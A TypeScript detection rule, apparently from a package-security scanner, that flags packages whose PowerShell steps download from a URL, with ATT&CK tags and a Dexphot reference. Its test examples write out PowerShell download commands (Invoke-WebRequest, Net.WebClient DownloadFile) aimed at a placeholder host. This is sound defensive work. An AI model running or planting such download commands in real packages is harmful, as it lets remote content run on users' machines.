import type { ReachedStep } from '../../execution/reached-step.js';
import { matchSteps } from '../evidence.js';
import type { Facts } from '../facts.js';
import { DEXPHOT_REPORT } from '../reference.js';
import type { Rule } from '../rule.js';

export const powershellDownload: Rule = {
  id: 'powershell-download',
  title: 'PowerShell code in the package downloads something',
  severity: 'medium',
  explanation:
    'A PowerShell command or script that the package runs fetches something from a URL. The content can change after the package was analysed; Dexphot updates itself this way.',
  attack: ['T1059.001', 'T1105'],
  references: [DEXPHOT_REPORT],
  match: (facts) =>
    matchSteps(facts, (step) =>
      step.meaning.kind === 'download' && isPowerShell(step, facts)
        ? `${step.meaning.tool} ${step.meaning.url}`
        : undefined,
    ),
  examples: [
    {
      what: 'Invoke-WebRequest',
      runs: ['powershell -Command "Invoke-WebRequest http://files.invalid/a -OutFile C:\\x\\a"'],
    },
    {
      what: 'a script of the package',
      runs: ['powershell -File update.ps1'],
      holds: [
        {
          name: 'update.ps1',
          type: 'powershell',
          script: {
            type: 'powershell',
            commands: [
              {
                line: 1,
                original: '',
                text: "(New-Object Net.WebClient).DownloadFile('http://files.invalid/a','a')",
              },
            ],
          },
        },
      ],
    },
  ],
  counterExamples: [
    {
      what: 'PowerShell that writes a folder',
      runs: ['powershell -Command New-Item -ItemType Directory C:\\x'],
    },
    {
      what: 'a script of the package that nothing runs',
      holds: [
        {
          name: 'update.ps1',
          type: 'powershell',
          script: {
            type: 'powershell',
            commands: [
              {
                line: 1,
                original: '',
                text: "(New-Object Net.WebClient).DownloadFile('http://files.invalid/a','a')",
              },
            ],
          },
        },
      ],
    },
  ],
};

function isPowerShell({ command }: ReachedStep, { payloads }: Facts): boolean {
  if (payloads[command.origin.payload]?.type === 'powershell') return true;
  return command.meanings.some(
    ({ meaning }) => meaning.kind === 'run-script' && /^(?:powershell|pwsh)/i.test(meaning.interpreter),
  );
}
